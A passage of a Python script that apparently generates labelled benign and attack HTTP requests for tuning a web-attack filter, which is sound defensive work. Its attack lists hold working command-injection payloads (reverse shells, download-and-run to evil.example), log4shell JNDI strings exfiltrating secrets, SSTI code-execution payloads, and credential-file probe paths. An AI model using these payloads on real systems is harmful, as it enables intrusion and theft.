    return "data:image/png;base64," + base64.b64encode(raw).decode()


def benign() -> list[dict]:
    out: list[dict] = []

    def add(kind: str, req: dict) -> None:
        out.append({"id": f"benign-{kind}-{len(out):04d}", "category": "benign", "kind": kind,
                    "source": "tuning: written for realistic JSON APIs", "request": req})

    def post(body: dict, path: str = "/api/items", method: str = "POST") -> dict:
        return {"method": method, "path": path, "query": "",
                "headers": {"user-agent": _ua(), "content-type": "application/json"},
                "body": json.dumps(body, ensure_ascii=rng.random() < 0.5)}

    for n in NAMES:
        add("names", post({"first_name": n.split(" ")[0], "last_name": n, "email": "x@example.com"}, "/api/customers"))
        add("names", {"method": "GET", "path": "/api/customers", "query": f"name={quote(n)}",
                      "headers": {"user-agent": _ua()}, "body": None})
    for c in CODE_REVIEW:
        add("code_review", post({"pull_request": 1187, "path": "src/app/db.py", "line": 42, "comment": c}, "/api/reviews"))
        add("code_review", post({"body": c, "resolved": False}, "/api/comments"))
    for u in URLS:
        add("urls", post({"title": "Link", "url": u, "note": f"see {u} for details"}, "/api/bookmarks"))
        add("urls", {"method": "GET", "path": "/api/redirect", "query": f"next={quote(u)}",
                     "headers": {"user-agent": _ua(), "referer": "https://app.example.com/home"}, "body": None})
    for h in RICH_TEXT:
        add("rich_text", post({"title": "Post", "body_html": h, "draft": True}, "/api/posts"))
    for _ in range(20):
        add("base64_images", post({"filename": "avatar.png", "image": _b64_image()}, "/api/uploads"))
    for m in MULTI:
        add("multilingual", post({"message": m, "lang": "auto"}, "/api/messages"))
        add("multilingual", {"method": "GET", "path": "/api/search", "query": "q=" + quote(m),
                             "headers": {"user-agent": _ua(), "accept-language": "fr-CH, fr;q=0.9, en;q=0.8"}, "body": None})
    for t in TEXT:
        add("free_text", post({"order_id": 1029, "note": t}, "/api/orders/1029/notes"))
        add("free_text", {"method": "POST", "path": "/api/feedback", "query": "",
                          "headers": {"user-agent": _ua(), "content-type": "application/x-www-form-urlencoded"},
                          "body": "rating=4&text=" + quote(t)})
    for i, text in enumerate(SECOND_BENIGN):
        field = ("comment", "body", "note", "description")[i % 4]
        add("second_batch", post({field: text, "id": i}, "/api/comments"))
    for i in range(40):
        order = {"customer": {"id": f"c_{i:05d}", "name": rng.choice(NAMES)},
                 "lines": [{"sku": f"SKU-{rng.randrange(1000, 9999)}", "qty": rng.randrange(1, 5),
                            "price": round(rng.uniform(1, 200), 2)} for _ in range(rng.randrange(1, 6))],
                 "shipping": {"street": "12 Rue de l'Église", "city": "Lyon", "zip": "69002"},
                 "coupon": rng.choice([None, "WELCOME10", "SPRING-24"]), "gift": rng.random() < 0.2}
        add("api_json", post(order, "/api/orders"))
        add("api_query", {"method": "GET", "path": f"/api/orders/{i}",
                          "query": rng.choice(["", "include=lines,customer", "page=2&per_page=50&sort=-created_at",
                                               "filter[status]=shipped&filter[from]=2024-01-01", "fields=id,total"]),
                          "headers": {"user-agent": _ua(), "authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig",
                                      "cookie": "session=9f8a7b6c; theme=dark; lang=en-GB"}, "body": None})
    return out


# -- third batch: new attack families and benign hard cases -----------------------------------
# Written when the held-out score showed the rules overfit the first two batches (command
# injection, log4shell, SSTI and scanners missed; support comments quoting shell and
# review comments quoting SQL blocked).  Families come from public write-ups (PayloadsAllTheThings'
# command injection / SSTI / log4shell pages, the log4shell bypass lists, HackTricks' SSTI
# engine table, scanner and probe lists); each is placed in varied locations.  Its own RNG
# keeps the first two batches byte-identical.
rng3 = random.Random(2026)

CMDI_FAMILIES = [
    # separators and chains
    "; id", ";id;", "| id", "|id", "|| id", "&& whoami", "& whoami &", "a & ping -n 5 127.0.0.1 &",
    "x;uname${IFS}-a", "foo && cat /etc/hosts", "1 || sleep 10", "localhost; ps aux", "q | head -n 5 /etc/passwd",
    "file.png; curl evil.example", "name\nid", "name%0aid", "x%0Awhoami", "x%0d%0acat /etc/passwd", "data\r\nls -la",
    "google.com%0a/bin/cat%20/etc/passwd", "1%3Bid", "abc%26%26whoami", "x%7Cid", "; /bin/ls -al", "|/usr/bin/whoami",
    "; id #", "';id;'", "\";id;\"", "');id;#", "`id`", "a`whoami`b", "$(id)", "x$(uname -a)", "$( cat /etc/passwd )",
    "host=$(hostname)", "`sleep 5`", "${IFS}id", ";cat$IFS/etc/passwd", "cat${IFS}/etc/shadow", "ls${IFS}-la${IFS}/",
    "{ls,-la,/}", "{cat,/etc/hosts}", ";{wget,http://evil.example/x.sh}", "$'\\x69\\x64'",
    # wildcard and quoting obfuscation
    "/???/c?t /e??/p??swd", "/???/??t /???/p?ss??", "; /bin/c?t /etc/pa*wd", "| /usr/bin/w?o?m?", "cat /e*c/pas*d",
    ";c'a't /etc/passwd", "; w\"h\"o\"a\"m\"i", "| wh''oami", ";who$@ami", "; c\\at /etc/passwd", "|w\\ho\\am\\i",
    "; $(printf 'id')", "; i$()d", ";ca$@t /etc/passwd", "; /bi'n'/c'a't /e'tc'/pa's'swd",
    # download and run, encoded
    "; echo aWQ= | base64 -d | sh", "| echo Y2F0IC9ldGMvcGFzc3dk|base64 --decode|bash", "; bash -c \"$(echo aWQ=|base64 -d)\"",
    "; curl -s http://evil.example/x | bash", "| wget -qO- http://evil.example/i.sh | sh", "; curl http://evil.example/s -o /tmp/s; sh /tmp/s",
    "&& wget http://10.0.0.9/m -O- | sh", "; curl -fsSL evil.example/p.sh|sh", "| fetch -o - http://evil.example/x | sh",
    "; python3 -c 'import os;os.system(\"id\")'", "; perl -e 'exec \"/bin/sh\"'", "; ruby -e 'exec \"id\"'",
    "; php -r 'system(\"id\");'", "; lua -e 'os.execute(\"id\")'", "; awk 'BEGIN {system(\"id\")}'",
    # reverse shells
    "; bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'", "; sh -i >& /dev/udp/10.0.0.1/4242 0>&1", "; nc -e /bin/bash 10.0.0.1 4242",
    "| ncat 10.0.0.1 4242 -e /bin/sh", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    "; socat tcp-connect:10.0.0.1:4242 exec:sh,pty,stderr", "; telnet 10.0.0.1 4242 | /bin/sh | telnet 10.0.0.1 4243",
    "; php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "; 0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    # windows
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
    "| powershell.exe -EncodedCommand SQBFAFgA", "& cmd.exe /c whoami", "| cmd /k ver", "& type C:\\Windows\\win.ini",
    "&& net user", "| ipconfig /all", "& certutil -urlcache -split -f http://evil.example/x.exe x.exe", "; powershell Invoke-WebRequest http://evil.example -OutFile x",
    "& bitsadmin /transfer j http://evil.example/x.exe C:\\x.exe", "| mshta http://evil.example/x.hta", "& rundll32 shell32.dll,ShellExec_RunDLL calc",
    "%26 dir c:\\", "& systeminfo", "| tasklist /v",
    # argument injection
    "--output=/var/www/html/shell.php", "-o /tmp/pwned", "--exec=id", "-oProxyCommand=curl evil.example", "--post-file=/etc/passwd",
    "-OProxyCommand=\"sh -c id\"", "--upload-pack=touch /tmp/pwn", "--use-compress-program=sh -c id", "-exec id ;", "--checkpoint-action=exec=sh x.sh",
    "--config=/dev/stdin", "-X POST -d @/etc/passwd http://evil.example", "--to-command=id", "-e /bin/sh",
    # in-context
    "127.0.0.1 -c 1; id", "8.8.8.8|id", "example.com`id`", "test@example.com; cat /etc/passwd", "photo.jpg;sleep 5",
    "report.pdf && curl http://evil.example/$(whoami)", "en_US; uname -a", "1; ping -c 3 evil.example", "x || nslookup evil.example",
    "12345 | nc evil.example 80", "abc; env", "val;printenv", "a&&ls /root", "z|cat /proc/self/environ", "x; busybox nc 10.0.0.1 4242 -e sh",
]

JNDI_FAMILIES = [
    "${jndi:ldap://evil.example:1389/Exploit}", "${jndi:ldaps://evil.example/o}", "${jndi:rmi://evil.example/o}", "${jndi:dns://evil.example/o}",
    "${jndi:iiop://evil.example/o}", "${jndi:corba://evil.example/o}", "${jndi:nds://evil.example/o}", "${jndi:http://evil.example/o}",
    "${jndi:nis://evil.example/o}", "${jndi:https://evil.example/o}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/o}", "${${::-j}ndi:rmi://evil.example/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/o}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/o}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}${lower:m}${lower:i}://evil.example/o}", "${${lower:jndi}:${lower:ldap}://evil.example/o}",
    "${${upper:j}ndi:${upper:l}${upper:d}${upper:a}${upper:p}://evil.example/o}", "${${upper:jndi}:ldap://evil.example/o}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/o}", "${${date:'j'}ndi:dns://evil.example/o}",
    "${j${::-n}di:ldap://evil.example/o}", "${jn${env::-}di:ldap://evil.example/o}", "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/o}",
    "${${sys:foo:-j}ndi:ldap://evil.example/o}", "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://evil.example/o}", "${${base64:am5kaQ==}:ldap://evil.example/o}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/o}", "${jndi:ldap://${env:USER}.evil.example/o}", "${jndi:dns://${hostName}.evil.example}",
    "${jndi:ldap://${sys:java.version}.evil.example/o}", "${jndi:ldap://127.0.0.1#evil.example:1389/o}", "${jndi:ldap://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
    "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fo%7D", "%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fevil.example%2Fo%7D", "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fo%257D",
    "\\u0024\\u007bjndi:ldap://evil.example/o\\u007d", "\\x24\\x7bjndi:ldap://evil.example/o}", "$\\u007bjndi:rmi://evil.example/o}",
    "${jNdI:LdAp://evil.example/o}", "${JNDI:LDAP://EVIL.EXAMPLE/O}", "${ jndi:ldap://evil.example/o}", "${jndi :ldap://evil.example/o}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://evil.example}", "${${lower:${lower:j}}${lower:n}di:ldap://evil.example/o}",
    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/o}", "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/o}",
    "${${::-${::-$${::-j}}}}", "${jndi:${::-l}dap://evil.example/o}", "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/o}",
    "${jndi:rmi://evil.example:1099/jrmp}", "${jndi:ldap://[::1]:1389/o}", "${jndi:ldap://evil.example:1389/Basic/Command/Base64/aWQ=}",
    "Mozilla/5.0 ${jndi:ldap://evil.example/ua}", "() { :; }; ${jndi:ldap://evil.example/o}", "x${jndi:dns://evil.example}y",
    "${${::-j}nd${upper:ı}:ldap://evil.example/o}", "${jnd${123%25ff:-${123%25ff:-i:}}ldap://evil.example/o}",
]

SSTI_FAMILIES = [
    # Jinja2 / Python
    "{{7*7}}", "{{ 7 * 7 }}", "{{7*'7'}}", "{{config}}", "{{ config }}", "{{config.items()}}", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ ''.__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('whoami').read() }}", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}", "{{request|attr(\"__class__\")}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{% set x = cycler.__init__.__globals__.os %}{{ x.popen('id').read() }}", "{% print(7*7) %}", "{% debug %}", "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", "{{ url_for.__globals__['current_app'].config }}",
    "{{ [].__class__.__mro__[1].__subclasses__() }}", "{{ dict.__base__.__subclasses__() }}", "{{ request.__class__.__mro__ }}", "{{ g.pop.__globals__ }}",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
    # Twig
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "{{['id']|filter('system')}}", "{{['id']|map('passthru')}}",
    "{{ app.request.server.all|join(',') }}", "{{ _self.env.setCache(\"ftp://evil.example:21\") }}", "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{['cat /etc/passwd']|filter('exec')}}", "{{ {'id':'shell_exec'}|sort }}",
    # Freemarker
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "<#assign cmd=\"freemarker.template.utility.Execute\"?new()>${cmd(\"whoami\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign classloader=article.class.protectionDomain.classLoader>", "${7*7}", "${ 7 * 7 }", "#{7*7}", "${{7*7}}",
    # Velocity
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))", "#set($s=\"\")$s.getClass().forName(\"java.lang.Runtime\")",
    "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    # ERB / Ruby
    "<%= 7*7 %>", "<%= system('id') %>", "<%= `id` %>", "<%= File.open('/etc/passwd').read %>", "<%= IO.popen('id').readlines() %>", "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id') %>",
    # Mako
    "${self.module.cache.util.os.system('id')}", "<% import os; x=os.popen('id').read() %>${x}", "${__import__('os').popen('id').read()}",
    "<%! import os %>${os.system('id')}",
    # Smarty
    "{php}echo `id`;{/php}", "{system('id')}", "{$smarty.version}", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{if system('id')}{/if}", "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(id)}')}",
    # Handlebars
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}", "{{this.constructor.constructor('return process')()}}",
    # Thymeleaf / Spring EL
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "__${7*7}__::.x", "${T(java.lang.System).getenv()}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "[[${7*7}]]", "[(${T(java.lang.Runtime).getRuntime().exec('id')})]", "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
    # Pug / Jade, Razor, Tornado, Nunjucks
    "#{7*7}", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id')", "@(7*7)", "@(1+2)", "@{ var x = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c id\"); }",
    "@System.IO.File.ReadAllText(\"/etc/passwd\")", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{% import os %}{{os.popen('id').read()}}", "{{ __import__('os').popen('id').read() }}",
]

SCANNER_UA3 = [
    "sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nuclei/v3.1.0)", "Nikto/2.5.0", "Mozilla/5.0 (Nikto/2.1.5)",
    "masscan/1.3", "zgrab/0.x", "Mozilla/5.0 (compatible; ZGrab/0.x)", "gobuster/3.1.0", "feroxbuster/2.10.1", "ffuf/2.1.0",
    "Wfuzz/2.4", "dirsearch", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) dirsearch/0.4.3", "WhatWeb/0.5.5", "Go-http-client/1.1 Nuclei",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap NSE", "Acunetix Web Vulnerability Scanner", "Netsparker",
    "Mozilla/5.0 (compatible; Arachni/v1.5.1)", "w3af.sourceforge.net", "skipfish/2.10b", "Hydra v9.5", "jaeles", "XSStrike", "commix/v4.0-stable",
    "Mozilla/5.0 (compatible; OpenVAS-VT 22.4)", "Nessus SOAP", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Nessus)",
    "Qualys-Scanner", "Mozilla/5.0 (compatible; Qualys)", "Detectify", "BurpSuite Professional", "Mozilla/5.0 (compatible; wpscan)",
    "WPScan v3.8.25", "joomscan", "CMSmap", "droopescan", "Xenu Link Sleuth", "Mozilla/5.0 (l9explore/1.2.2)", "Mozilla/5.0 (compatible; CensysInspect/1.1)",
    "Expanse, a Palo Alto Networks company", "Mozilla/5.0 zgrab/0.x (compatible; Researchscan/t13rl)", "fasthttp nuclei", "httpx - Open-source project (github.com/projectdiscovery/httpx)",
    "katana", "Mozilla/5.0 (compatible; Interactsh)", "ZmEu", "Morfeus Fucking Scanner", "Havij", "sqlninja", "Mozilla/5.0 (compatible; NetcraftSurveyAgent/1.0)",
    "Mozilla/5.0 (compatible; Hakrawler)", "Jorgee", "masscan-ng/1.3", "python-nmap", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 OWASP ZAP",
    "ZAP/2.14.0", "Mozilla/5.0 (compatible; AhrefsBot; Nuclei-templates)", "Wget/1.21 (Nikto)", "Mozilla/5.0 [en] (X11, U; OpenVAS)", "gospider",
]
SCANNER_PATHS3 = [
    "/.env", "/.env.local", "/.env.production", "/.env.bak", "/api/.env", "/app/.env", "/backend/.env", "/.git/config", "/.git/HEAD", "/.git/index",
    "/.git/logs/HEAD", "/.gitignore", "/.svn/wc.db", "/.hg/store", "/.aws/credentials", "/.aws/config", "/.docker/config.json", "/.npmrc", "/.ssh/id_rsa",
    "/server-status", "/server-info", "/actuator", "/actuator/env", "/actuator/health", "/actuator/heapdump", "/actuator/mappings", "/actuator/configprops",
    "/actuator/loggers", "/actuator/threaddump", "/wp-admin/", "/wp-login.php", "/wp-config.php.bak", "/wp-content/debug.log", "/phpmyadmin/", "/phpMyAdmin/index.php",
    "/pma/", "/myadmin/", "/cgi-bin/test.cgi", "/cgi-bin/.%2e/.%2e/bin/sh", "/config.json", "/config.yml", "/config.php.bak", "/config.old", "/index.php.swp",
    "/.index.php.swp", "/web.config", "/web.config.old", "/settings.py.bak", "/database.yml", "/db.sql", "/dump.sql", "/backup.zip", "/backup.tar.gz",
    "/site.tar.gz", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/cores", "/solr/", "/console", "/console/", "/_ignition/execute-solution",
    "/_ignition/health-check", "/telescope/requests", "/horizon/api/stats", "/.DS_Store", "/.htpasswd", "/.htaccess", "/debug/pprof/", "/debug/vars", "/jmx-console/",
    "/manager/html", "/jenkins/script", "/script", "/api/v1/pods", "/v2/_catalog", "/.well-known/security.txt.bak", "/admin/config.php", "/administrator/",
    "/xmlrpc.php", "/elmah.axd", "/trace.axd", "/phpinfo.php", "/info.php", "/test.php", "/shell.php", "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx",
    "/remote/fgt_lang?lang=/../../../..//////////dev/", "/.vscode/sftp.json", "/.idea/workspace.xml", "/composer.json", "/composer.lock", "/package.json.bak",
    "/storage/logs/laravel.log", "/graphql?query={__schema{types{name}}}", "/druid/index.html", "/nacos/v1/auth/users", "/api/swagger.json.bak", "/_profiler/phpinfo",
    "/.bash_history", "/id_rsa", "/.kube/config", "/etc/passwd.bak", "/admin.php.old", "/index.bak", "/main.js.map.old",
]

# Header locations real attack traffic uses for log4shell and friends.
HEADER_SLOTS = ["user-agent", "x-api-version", "referer", "x-forwarded-host", "origin", "x-client-id"]


def _place3(payload: str, i: int) -> dict:
    """Like ``_place``, plus headers named in log4shell and scanner traffic."""
    where = i % 9
    if where < 6 and "\n" not in payload and "\r" not in payload:
        return _place(payload, i * 7 + where)  # query, JSON, nested JSON, form, cookie, x-header
    field = FIELDS[(i * 3) % len(FIELDS)]
    headers = {"user-agent": rng3.choice(["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "okhttp/4.12.0"])}
    if where == 6 and "\n" not in payload and "\r" not in payload:
        headers[HEADER_SLOTS[i % len(HEADER_SLOTS)]] = payload
        return {"method": "GET", "path": "/api/items", "query": "", "headers": headers, "body": None}
    if where == 7 and "\n" not in payload and "\r" not in payload:
        return {"method": "GET", "path": "/api/items", "query": f"page=1&{field}={quote(payload)}&sort=name", "headers": headers, "body": None}
    headers["content-type"] = "application/json"
    body = {"data": {"type": "jobs", "attributes": {field: payload, "priority": 3}}, "meta": {"source": "web"}}
    return {"method": "POST", "path": "/api/jobs", "query": "", "headers": headers, "body": json.dumps(body)}


def attacks3() -> list[dict]:
    out: list[dict] = []
    for category, payloads in (("command_injection", CMDI_FAMILIES), ("jndi", JNDI_FAMILIES), ("ssti", SSTI_FAMILIES)):
        for i, p in enumerate(payloads):
            for rep in range(2 if category != "ssti" else 2):  # each payload in two locations
                out.append({"id": f"{category}-c{i:03d}{'ab'[rep]}", "category": category,
                            "source": "tuning: third batch (public families)", "request": _place3(p, i + 5 * rep)})
    for i, p in enumerate(JNDI_FAMILIES):  # log4shell lands in headers above all
        headers = {"user-agent": rng3.choice(["curl/8.5.0", "Mozilla/5.0"]), HEADER_SLOTS[i % len(HEADER_SLOTS)]: p}
        if i % 3 == 0:
            headers["cookie"] = f"JSESSIONID={quote(p)}"
        out.append({"id": f"jndi-h{i:03d}", "category": "jndi", "source": "tuning: third batch (headers)",
                    "request": {"method": "GET", "path": "/", "query": "", "headers": headers, "body": None}})
    for i, ua in enumerate(SCANNER_UA3):
        out.append({"id": f"scanner-ua3-{i:03d}", "category": "scanner", "source": "tuning: third batch (tool UAs)",
                    "request": {"method": "GET", "path": rng3.choice(["/", "/api/items", "/login"]), "query": "",
                                "headers": {"user-agent": ua}, "body": None}})
    for i, path in enumerate(SCANNER_PATHS3):
        prefix = rng3.choice(["", "", "/static", "/api"])
        out.append({"id": f"scanner-path3-{i:03d}", "category": "scanner", "source": "tuning: third batch (probe paths)",
                    "request": {"method": rng3.choice(["GET", "GET", "HEAD", "POST"]), "path": prefix + path, "query": "",
                                "headers": {"user-agent": rng3.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.88.1", "python-requests/2.28.1", "Go-http-client/1.1"])},
                                "body": None}})
    return out


SHELL_CMDS = [
    "npm ci && npm test", "ls -la ~/.ssh", "grep -v foo | sort", "docker compose up -d", "docker logs -f api | grep ERROR",
    "kubectl get pods -n prod", "kubectl rollout restart deploy/api", "systemctl restart nginx", "sudo systemctl status postgresql",
    "tail -f /var/log/nginx/error.log", "journalctl -u ramparts --since today", "df -h", "du -sh * | sort -h", "ps aux | grep python",
    "curl -I https://status.example.com", "curl -s localhost:8080/healthz", "pip install -r requirements.txt", "python -m venv .venv && source .venv/bin/activate",
    "git pull --rebase && git push", "git stash && git checkout main", "make clean && make", "cat ~/.npmrc", "chmod 600 ~/.ssh/id_ed25519",
    "rm -rf node_modules && npm install", "echo $PATH", "export NODE_ENV=production", "which python3", "uname -a", "id -u", "whoami",
    "sleep 30 && curl localhost:3000", "ping -c 3 8.8.8.8", "nslookup api.example.com", "dig +short example.com", "ssh deploy@bastion.example.com",
    "scp backup.tar.gz ops@10.0.0.5:/srv/backups/", "openssl s_client -connect example.com:443", "redis-cli ping", "psql -U app -c '\\dt'",
    "find . -name '*.pyc' -delete", "xargs -n1 echo < list.txt", "brew upgrade && brew cleanup", "apt-get update && apt-get install -y curl",
    "crontab -l", "env | grep AWS", "ls /etc/nginx/sites-enabled", "cat /etc/os-release", "nc -zv db.internal 5432", "wget -O- https://example.com/install.sh",
    "yarn build || yarn build --verbose", "tar -czf logs.tgz logs/", "sed -i 's/foo/bar/' config.ini", "awk '{print $1}' access.log | sort | uniq -c",
    "base64 -d token.txt", "kill -9 4242", "top -o %MEM", "htop", "free -m", "ip addr show", "netstat -tlnp", "ss -tlnp | grep 443",
    "powershell Get-Service", "cmd /c dir", "ipconfig /flushdns", "Get-ChildItem -Recurse", "npm run lint -- --fix",
]
SHELL_TEMPLATES = [
    "Can you run `{c}` and paste the output here?", "Try `{c}` -- that fixed it for me last week.", "I ran `{c}` but nothing changed.",
    "Steps to reproduce:\n1. Clone the repo\n2. Run `{c}`\n3. Open http://localhost:3000", "Workaround until the fix ships: `{c}`",
    "Support said to pipe it through `{c}` and send them the result.", "From the runbook: if the queue backs up, `{c}` then wait five minutes.",
    "```\n$ {c}\n```\nThis is what I get. Any idea?", "Before deploying, please run `{c}` locally.", "FYI the on-call fix was `{c}`; we should automate it.",
    "The docs say to run {c} but on macOS you need sudo.", "Ticket #{n}: customer ran `{c}` and got permission denied.", "ok, `{c}` works now, closing.",
    "Note for ops: `{c}` needs to run on every node after the upgrade.", "Hmm, `{c}` shows nothing. Is the service even up?",
    "Could you try `{c}`? If that fails, send the logs.", "Run `{c}` in the project root, not in src/.", "I usually do `{c}` before standup.",
    "Our CI step is literally `{c}`, nothing fancy.", "Reminder: `{c}` is safe to run, it only reads.",
]
SQL_SNIPPETS = [
    "SELECT * FROM orders WHERE status = 'open'", "SELECT id, email FROM users WHERE deleted_at IS NULL", "DELETE FROM sessions WHERE expires_at < now()",
    "UPDATE accounts SET plan = 'pro' WHERE id = 42", "INSERT INTO audit_log (actor, action) VALUES ('system', 'rotate')", "DROP TABLE tmp_import",
    "SELECT count(*) FROM events GROUP BY kind", "SELECT name FROM products ORDER BY price DESC LIMIT 10", "SELECT a.id FROM a JOIN b ON a.id = b.a_id",
    "WHERE created_at > now() - interval '7 days'", "SELECT id FROM users UNION SELECT id FROM admins", "CREATE INDEX CONCURRENTLY idx_users_email ON users(email)",
    "ALTER TABLE orders ADD COLUMN notes text", "SELECT * FROM users WHERE email = '\" + email + \"'", "WHERE name LIKE '%' || :q || '%'",
    "SELECT 1", "SELECT sleep(1)", "EXPLAIN ANALYZE SELECT * FROM orders WHERE customer_id = 7", "TRUNCATE TABLE staging_rows",
    "SELECT coalesce(sum(total), 0) FROM invoices WHERE paid = true", "WHERE status IN ('open', 'pending') OR priority = 1", "SELECT * FROM t WHERE a = 1 OR 1 = 1",
    "SELECT version()", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", "BEGIN; UPDATE stock SET qty = qty - 1 WHERE sku = 'A-1'; COMMIT;",
    "ORDER BY created_at DESC", "LIMIT 50 OFFSET 100", "SELECT DISTINCT country FROM customers", "HAVING count(*) > 1",
]
SQL_TEMPLATES = [
    "Can we avoid `{s}` here? It scans the whole table.", "nit: `{s}` should be parameterised.", "This query: `{s}` -- is there an index for it?",
    "I'd rewrite {s} as a CTE, it reads better.", "Why `{s}` and not a join? Curious.", "Blocking: `{s}` builds SQL from user input, please use bound parameters.",
    "LGTM, but `{s}` will lock the table on big installs.", "The slow log shows `{s}` at 4s p99.", "```sql\n{s};\n```\nThis is what the ORM emits, fine by me.",
    "Suggestion: move `{s}` into the repository layer.", "Heads up: {s} runs on every page load.", "Question about line 88: does `{s}` handle NULLs?",
    "We had an incident from exactly this: `{s}`. Let's add a test.", "Could you add a comment explaining `{s}`?", "Is `{s}` covered by the migration tests?",
]
FIRST = ["Alice", "Bob", "Chloé", "Dmitri", "Émile", "Fatima", "Grace", "Hiro", "Ines", "Jamal", "Kate", "Liam", "María", "Noah", "Olivia", "Pål", "Quinn", "Ravi", "Sofia", "Tomás"]
LAST = ["Smith", "O'Connor", "Müller", "García", "Nakamura", "Dubois", "Kowalski", "Okafor", "Andersson", "Rossi", "D'Souza", "Nguyen", "van Dijk", "Ó Súilleabháin"]
PRODUCTS = ["Blue Mug", "Desk Lamp (LED)", "USB-C Cable 2m", "Notebook A5 - dotted", "Coffee Beans 1kg", "T-Shirt, size M", "Wireless Mouse", "Standing Desk",
            "Chair cushion", "Water bottle 750ml", "Select Blend Tea", "Union Jack Flag", "Drop Earrings", "Or & Argent Necklace", "Table Runner", "Update Kit v2"]
NOTES = ["", "Leave at the door", "Gift wrap please!", "Call before delivery: +44 20 7946 0018", "Deliver after 5pm; ring twice.", "Fragile -- handle with care",
         "Same as last order", "Customer asked for an invoice (VAT ID DE123456789)", "Union member discount applied", "Select 'express' next time",
         "Do not drop; contains glass", "Update address before shipping", "Order 2 of 3 — rest ships Monday", "Back-order OK, or cancel if > 2 weeks",
